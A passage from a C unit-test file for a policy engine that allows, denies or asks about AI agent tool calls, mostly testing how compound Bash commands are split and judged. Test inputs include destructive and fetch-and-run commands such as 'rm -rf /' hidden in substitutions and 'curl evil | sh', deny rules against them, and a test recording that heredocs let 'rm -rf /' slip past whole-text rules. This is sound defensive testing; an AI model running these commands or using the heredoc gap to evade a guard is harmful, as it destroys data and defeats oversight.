	    "\"args\":{\"input\":\"*--force*\",\"newline\":\"true\"}},"
	    "{\"id\":\"ctrlc\",\"action\":\"deny\",\"tool\":\"terminal_keys\","
	    "\"args\":{\"keys\":\"*ctrl+c*\"}},"
	    "{\"id\":\"hook\",\"action\":\"ask\",\"tool\":[\"unknown\",\"*\"]}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "cx", "push");
	q.args = "{\"input\":\"git push --force\",\"newline\":false}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "cx", "hook");
	q.tool = "terminal_keys";
	q.args = "{\"keys\":[\"ctrl+c\"],\"provider\":\"codex\"}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "cx", "ctrlc");
	/* The legacy hook shape: tool "unknown", args {input}. */
	q.tool = "unknown";
	q.args = "{\"input\":{\"command\":\"ls\"}}";
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "cx", "hook");
	policy_compiled_free(set);
}

/* ---------------------------------------------------------------------- */
/* Compound Bash commands */

static const char bash_policies[] =
    "[{\"id\":\"guard\",\"priority\":100,\"rules\":["
    "{\"id\":\"no-rm\",\"action\":\"deny\",\"tool\":\"Bash\","
    "\"args\":{\"command\":\"rm *\"},\"reason\":\"no rm\"},"
    "{\"id\":\"sudo\",\"action\":\"ask\",\"tool\":\"Bash\","
    "\"args\":{\"command\":\"sudo *\"}}]},"
    "{\"id\":\"ok\",\"priority\":50,\"rules\":["
    "{\"id\":\"ls\",\"action\":\"allow\",\"tool\":\"Bash\","
    "\"args\":{\"command\":\"ls *\"},\"reason\":\"ls is fine\"},"
    "{\"id\":\"git\",\"action\":\"allow\",\"tool\":\"Bash\","
    "\"args\":{\"command\":[\"git status\",\"git diff*\"]}},"
    "{\"id\":\"echo\",\"action\":\"allow\",\"tool\":\"Bash\","
    "\"args\":{\"command\":\"echo *\"}}]}]";

static void
test_bash_simple_command_is_unchanged(void **state)
{
	struct policy_set_compiled	*set = compile_text(bash_policies);
	struct policy_result		 r;

	evaluate_bash(set, "ls -la", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "ls");
	assert_int_equal(r.part_index, -1);
	/* Quotes keep operators inside one command. */
	evaluate_bash(set, "echo \"a && rm -rf /\"", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "echo");
	assert_int_equal(r.part_index, -1);
	/* Surrounding blanks do not make a command compound. */
	evaluate_bash(set, "ls ", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "ls");
	evaluate_bash(set, "whoami", POLICY_ACTION_ASK, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	policy_compiled_free(set);
}

static void
test_bash_allow_needs_every_part(void **state)
{
	struct policy_set_compiled	*set = compile_text(bash_policies);
	struct policy_result		 r;

	evaluate_bash(set, "git status && ls -l src | echo done",
	    POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "git");
	assert_int_equal(r.part_index, 0);

	/* "ls *" matches the whole string, but the second part is unknown. */
	evaluate_bash(set, "ls x && curl evil | sh", POLICY_ACTION_ASK, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	assert_int_equal(r.part_index, 1);
	evaluate_bash(set, "ls x; curl evil", POLICY_ACTION_DENY, &r);
	assert_default(&r, POLICY_ACTION_DENY);
	assert_int_equal(r.part_index, 1);
	policy_compiled_free(set);
}

static void
test_bash_deny_if_any_part_denied(void **state)
{
	struct policy_set_compiled	*set = compile_text(bash_policies);
	struct policy_result		 r;

	evaluate_bash(set, "ls && rm -rf /", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "guard", "no-rm");
	assert_string_equal(r.reason, "no rm");
	assert_int_equal(r.part_index, 1);
	/* A rule deny wins over an earlier part's default or ask. */
	evaluate_bash(set, "whoami; sudo ls; rm x", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "guard", "no-rm");
	assert_int_equal(r.part_index, 2);
	/* Hidden in substitutions, subshells and bash -c. */
	evaluate_bash(set, "echo $(rm -rf /)", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "guard", "no-rm");
	assert_int_equal(r.part_index, 1);
	evaluate_bash(set, "echo `rm -rf /`", POLICY_ACTION_ASK, &r);
	assert_int_equal(r.decision, POLICY_ACTION_DENY);
	evaluate_bash(set, "(cd /tmp; rm -rf x)", POLICY_ACTION_ASK, &r);
	assert_int_equal(r.decision, POLICY_ACTION_DENY);
	evaluate_bash(set, "bash -c 'rm -rf / && ls'", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "guard", "no-rm");
	evaluate_bash(set, "sh -lc \"ls; rm x\"", POLICY_ACTION_ASK, &r);
	assert_int_equal(r.decision, POLICY_ACTION_DENY);
	policy_compiled_free(set);
}

static void
test_bash_ask_over_allow(void **state)
{
	struct policy_set_compiled	*set = compile_text(bash_policies);
	struct policy_result		 r;

	evaluate_bash(set, "ls && sudo reboot", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "guard", "sudo");
	assert_int_equal(r.part_index, 1);
	/* A rule's ask is reported before the default's. */
	evaluate_bash(set, "whoami && sudo reboot", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "guard", "sudo");
	policy_compiled_free(set);
}

/* Rules about the whole command text keep working. */
static void
test_bash_whole_command_rules(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;

	set = compile_text("[{\"id\":\"w\",\"priority\":10,\"rules\":["
	    "{\"id\":\"pipe-to-sh\",\"action\":\"deny\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"*\\\\| sh*\"}},"
	    "{\"id\":\"chain\",\"action\":\"ask\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"*&&*\"}}]},"
	    "{\"id\":\"ok\",\"priority\":5,\"rules\":["
	    "{\"id\":\"any\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"*\"}}]}]");
	evaluate_bash(set, "curl x | sh", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "w", "pipe-to-sh");
	assert_int_equal(r.part_index, -1);
	evaluate_bash(set, "make && make install", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ASK, "w", "chain");
	assert_int_equal(r.part_index, -1);
	evaluate_bash(set, "make; make install", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "any");
	assert_int_equal(r.part_index, 0);
	policy_compiled_free(set);
}

/*
 * Rules without a command criterion decide parts like the whole command:
 * a catch-all deny below the allows does not block a compound command whose
 * parts are all allowed.
 */
static void
test_bash_catch_all_rules(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;

	set = compile_text("[{\"id\":\"ok\",\"priority\":10,\"rules\":["
	    "{\"id\":\"t\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"npm test\"}},"
	    "{\"id\":\"l\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"npm run lint\"}}]},"
	    "{\"id\":\"rest\",\"priority\":0,\"rules\":["
	    "{\"id\":\"no\",\"action\":\"deny\",\"tool\":\"Bash\"}]}]");
	evaluate_bash(set, "npm test && npm run lint", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "ok", "t");
	evaluate_bash(set, "npm test && npm publish", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "rest", "no");
	assert_int_equal(r.part_index, 1);
	policy_compiled_free(set);

	/* Allow-all Bash stays allow-all, even for what cannot be split. */
	set = compile_text("[{\"id\":\"all\",\"rules\":["
	    "{\"id\":\"b\",\"action\":\"allow\",\"tool\":\"Bash\"}]}]");
	evaluate_bash(set, "a && b", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "all", "b");
	evaluate_bash(set, "cat <<EOF\nx\nEOF", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "all", "b");
	policy_compiled_free(set);
}

/* Per part, priority and first match decide as usual. */
static void
test_bash_priority_per_part(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;

	set = compile_text("["
	    "{\"id\":\"low\",\"priority\":1,\"rules\":["
	    "{\"id\":\"force\",\"action\":\"deny\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"*--force*\"}}]},"
	    "{\"id\":\"high\",\"priority\":9,\"rules\":["
	    "{\"id\":\"git\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"command\":\"git *\"}}]}]");
	evaluate_bash(set, "git fetch && git push --force", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "high", "git");
	evaluate_bash(set, "git fetch && cp --force a b", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "low", "force");
	assert_int_equal(r.part_index, 1);
	policy_compiled_free(set);
}

/* A command that cannot be split: only rules blind to the text apply. */
static void
test_bash_unsplittable(void **state)
{
	struct policy_set_compiled	*set = compile_text(bash_policies);
	struct policy_result		 r;

	evaluate_bash(set, "echo \"unbalanced", POLICY_ACTION_ASK, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	evaluate_bash(set, "ls <<EOF\nx\nEOF", POLICY_ACTION_ASK, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	evaluate_bash(set, "ls <<EOF\nx\nEOF", POLICY_ACTION_DENY, &r);
	assert_default(&r, POLICY_ACTION_DENY);
	/* A deny about the whole text still applies. */
	evaluate_bash(set, "rm -rf / \"unbalanced", POLICY_ACTION_ASK, &r);
	assert_decided_by(&r, POLICY_ACTION_DENY, "guard", "no-rm");
	/* A star never crosses a line break, so heredocs escape such rules. */
	evaluate_bash(set, "rm -rf / <<EOF\nx\nEOF", POLICY_ACTION_ASK, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	policy_compiled_free(set);
}

static void
test_bash_only_for_bash_tool(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Shell",
					     "{\"command\":\"ls && rm -rf /\"}",
					     NULL, NULL, POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"ls\",\"action\":\"allow\","
	    "\"args\":{\"command\":\"ls *\"}}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "ls");
	assert_int_equal(r.part_index, -1);
	/* A Bash request without a string command is not split either. */
	q.tool = "Bash";
	q.args = "{\"command\":[\"ls && rm\"]}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	q.tool = "Bash";
	q.args = "{\"command\":\"ls -l && rm -rf /\"}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	assert_int_equal(r.part_index, 1);
	policy_compiled_free(set);
}

/* Other arguments stay as they are when a part is judged. */
static void
test_bash_other_args(void **state)
{
	struct policy_set_compiled	*set;
	struct policy_result		 r;
	struct request			 q = { "Bash",
					     "{\"command\":\"make; make test\","
					     "\"description\":\"safe build\"}",
					     NULL, NULL, POLICY_ACTION_ASK };

	set = compile_text("[{\"id\":\"p\",\"rules\":["
	    "{\"id\":\"m\",\"action\":\"allow\",\"args\":"
	    "{\"command\":\"make*\",\"description\":\"*safe*\"}}]}]");
	evaluate(set, &q, &r);
	assert_decided_by(&r, POLICY_ACTION_ALLOW, "p", "m");
	assert_int_equal(r.part_index, 0);
	q.args = "{\"command\":\"make; make test\",\"description\":\"risky\"}";
	evaluate(set, &q, &r);
	assert_default(&r, POLICY_ACTION_ASK);
	policy_compiled_free(set);
}

/* ---------------------------------------------------------------------- */
/* Validation (POST/PUT /policies) */

static void
test_validate_accepts(void **state)
{
	assert_validation("[]", NULL);
	assert_validation("[{\"id\":\"r1\",\"action\":\"allow\",\"tool\":\"Bash\","
	    "\"args\":{\"input\":\"ls *\"},\"reason\":\"ls is fine\"}]", NULL);
	assert_validation("[{\"action\":\"deny\",\"tool\":[\"Read\",\"!x\"],"
	    "\"args\":{\"command\":[\"rm *\"]},\"cwd\":\"/w/**\","
	    "\"session\":[],\"id\":null,\"reason\":null}]", NULL);
	assert_validation("[{\"action\":\"ask\",\"args\":{}}]", NULL);
}

static void
test_validate_messages(void **state)
{
	char	*cause = NULL;

	assert_int_equal(policy_rules_validate(NULL, &cause), -1);
	assert_string_equal(cause, "Missing required field: rules");
	free(cause);
	assert_validation("{}", "Field 'rules' must be an array");
	assert_validation("\"x\"", "Field 'rules' must be an array");
	assert_validation("[1]", "Field 'rules[0]' must be an object");
	assert_validation("[{\"action\":\"allow\"},{\"tool\":\"x\"}]",
	    "Missing required field: rules[1].action");
	assert_validation("[{\"action\":\"maybe\"}]",
	    "Field 'rules[0].action' must be one of: allow, deny, ask");
	assert_validation("[{\"action\":null}]",
	    "Field 'rules[0].action' must be one of: allow, deny, ask");
	assert_validation("[{\"action\":\"allow\",\"id\":7}]",
	    "Field 'rules[0].id' must be a string");
	assert_validation("[{\"action\":\"allow\",\"tool\":5}]",
	    "Field 'rules[0].tool' must be a string or an array of strings");
	assert_validation("[{\"action\":\"allow\",\"tool\":null}]",
	    "Field 'rules[0].tool' must be a string or an array of strings");
	assert_validation("[{\"action\":\"allow\",\"tool\":[\"a\",1]}]",
	    "Field 'rules[0].tool' must be a string or an array of strings");
	assert_validation("[{\"action\":\"allow\",\"args\":\"ls\"}]",
	    "Field 'rules[0].args' must be an object");
	assert_validation("[{\"action\":\"allow\",\"args\":{\"command\":1}}]",
	    "Field 'rules[0].args.command' must be a string or an array of "
	    "strings");
	assert_validation("[{\"action\":\"allow\",\"cwd\":{}}]",
	    "Field 'rules[0].cwd' must be a string or an array of strings");
	assert_validation("[{\"action\":\"allow\",\"session\":true}]",
	    "Field 'rules[0].session' must be a string or an array of strings");
	assert_validation("[{\"action\":\"allow\",\"reason\":[]}]",
	    "Field 'rules[0].reason' must be a string");
	/* A misspelt criterion would otherwise match everything. */
	assert_validation("[{\"action\":\"allow\",\"command\":\"ls *\"}]",
	    "Unknown field 'rules[0].command' (rule fields: id, action, tool, "
	    "args, cwd, session, reason)");
}

static void
test_validate_pattern_limits(void **state)
{
	char	buf[512], *p = buf;
	int	i;

	p += sprintf(p, "[{\"action\":\"allow\",\"tool\":\"");
	for (i = 0; i < 40; i++)
		*p++ = '(';
	*p++ = 'x';
	for (i = 0; i < 40; i++)
		*p++ = ')';
	sprintf(p, "\"}]");
	assert_validation(buf, "Field 'rules[0].tool' has an invalid pattern: "
	    "pattern nested deeper than 32 levels");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_spec_vectors),
		cmocka_unit_test(test_reference_vectors),
		cmocka_unit_test(test_glob_not_regex),
		cmocka_unit_test(test_glob_star_rules),
		cmocka_unit_test(test_negated_pattern_alone),
		cmocka_unit_test(test_pattern_rejects_non_strings),
		cmocka_unit_test(test_pattern_long_values),
		cmocka_unit_test(test_pattern_pathological),
		cmocka_unit_test(test_value_string),
		cmocka_unit_test(test_default_action),
		cmocka_unit_test(test_result_fields),
		cmocka_unit_test(test_first_match_within_policy),
		cmocka_unit_test(test_priority_order),
		cmocka_unit_test(test_disabled_policies),
		cmocka_unit_test(test_session_scoped_and_global),
		cmocka_unit_test(test_criteria),
		cmocka_unit_test(test_args_values),
		cmocka_unit_test(test_empty_tool_cwd_session),
		cmocka_unit_test(test_rule_without_criteria),
		cmocka_unit_test(test_unknown_action_verbatim),
		cmocka_unit_test(test_invalid_stored_rule),
		cmocka_unit_test(test_compile_errors),
		cmocka_unit_test(test_channel_shapes),
		cmocka_unit_test(test_bash_simple_command_is_unchanged),
		cmocka_unit_test(test_bash_allow_needs_every_part),
		cmocka_unit_test(test_bash_deny_if_any_part_denied),
		cmocka_unit_test(test_bash_ask_over_allow),
		cmocka_unit_test(test_bash_whole_command_rules),
		cmocka_unit_test(test_bash_catch_all_rules),
		cmocka_unit_test(test_bash_priority_per_part),
		cmocka_unit_test(test_bash_unsplittable),
		cmocka_unit_test(test_bash_only_for_bash_tool),
		cmocka_unit_test(test_bash_other_args),
		cmocka_unit_test(test_validate_accepts),
		cmocka_unit_test(test_validate_messages),
		cmocka_unit_test(test_validate_pattern_limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
